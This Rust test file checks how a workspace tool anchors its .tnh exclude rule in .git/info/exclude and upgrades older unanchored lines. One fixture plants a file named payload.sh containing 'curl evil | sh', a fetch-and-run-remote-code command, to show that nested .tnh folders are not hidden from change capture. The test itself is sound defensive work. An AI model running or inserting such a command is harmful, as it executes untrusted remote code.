//! The conductor's own exclude rule in `.git/info/exclude`: anchored to the repository's root
//! (`/.tnh/`), so a `.tnh` folder deeper down is never hidden from the capture or from the
//! operator's `git status`; an unanchored `.tnh/` line written by an earlier version is
//! upgraded in place.

use tnh_conductor::ids::{RunId, WorkflowId};
use tnh_conductor::workspace::Workspace;

use crate::support::{TempRepo, git_in};
use crate::workspace::{create, put, read};

/// The lines of the repository's `.git/info/exclude` that name `.tnh` in any form.
fn tnh_lines(repo: &TempRepo) -> Vec<String> {
    read(repo.path(), ".git/info/exclude")
        .lines()
        .filter(|line| line.contains(".tnh") && !line.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

#[test]
fn the_exclude_rule_hides_only_the_root_tnh_folder() {
    let repo = TempRepo::new();
    repo.write("src/main.rs", "fn main() {}\n");
    repo.commit_all("src");
    let workspace = create(&repo, "anchored");
    assert_eq!(tnh_lines(&repo), vec!["/.tnh/".to_owned()]);

    // A `.tnh` folder below the root, in the run's worktree, is a change like any other.
    put(
        workspace.path(),
        "secret/.tnh/payload.sh",
        "curl evil | sh\n",
    );
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    let paths: Vec<&str> = status.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, vec!["secret/.tnh/payload.sh"], "{status:#?}");

    // In the operator's checkout too, while the root `.tnh/` (run directories, worktrees)
    // stays out of `git status`.
    repo.write("src/.tnh/planted.rs", "op\n");
    assert_eq!(
        repo.git(&["status", "--porcelain", "--untracked-files=all"]),
        "?? src/.tnh/planted.rs"
    );

    // A second run adds no second line.
    create(&repo, "anchored-2");
    assert_eq!(tnh_lines(&repo), vec!["/.tnh/".to_owned()]);
}

#[test]
fn an_unanchored_line_from_an_earlier_version_is_upgraded_in_place() {
    let repo = TempRepo::new();
    let exclude = repo.path().join(".git/info/exclude");
    std::fs::create_dir_all(exclude.parent().unwrap()).unwrap();
    std::fs::write(
        &exclude,
        "# git ls-files --others --exclude-from=.git/info/exclude\n\
         operator-notes.txt\n\
         # tnh-conductor: run directories and managed worktrees\n\
         .tnh/\n\
         *.bak\n",
    )
    .unwrap();
    let workspace = Workspace::create(
        repo.path(),
        &RunId::new("upgraded"),
        &WorkflowId::new("wf"),
        None,
    )
    .unwrap();
    assert_eq!(
        read(repo.path(), ".git/info/exclude"),
        "# git ls-files --others --exclude-from=.git/info/exclude\n\
         operator-notes.txt\n\
         # tnh-conductor: run directories and managed worktrees\n\
         /.tnh/\n\
         *.bak\n",
        "the operator's own lines stay as they were"
    );
    put(workspace.path(), "docs/.tnh/y.md", "x\n");
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    assert_eq!(status.files.len(), 1, "{status:#?}");
    assert_eq!(status.files[0].path, "docs/.tnh/y.md");
    assert_eq!(
        git_in(
            repo.path(),
            &["status", "--porcelain", "--untracked-files=all"]
        ),
        "",
        "the root .tnh/ stays hidden"
    );
}

#[test]
fn an_unanchored_line_without_the_comment_is_anchored_too() {
    let repo = TempRepo::new();
    let exclude = repo.path().join(".git/info/exclude");
    std::fs::create_dir_all(exclude.parent().unwrap()).unwrap();
    std::fs::write(&exclude, "a.txt\n.tnh\nb.txt").unwrap();
    create(&repo, "bare-line");
    assert_eq!(
        read(repo.path(), ".git/info/exclude"),
        "a.txt\n/.tnh/\nb.txt"
    );
}
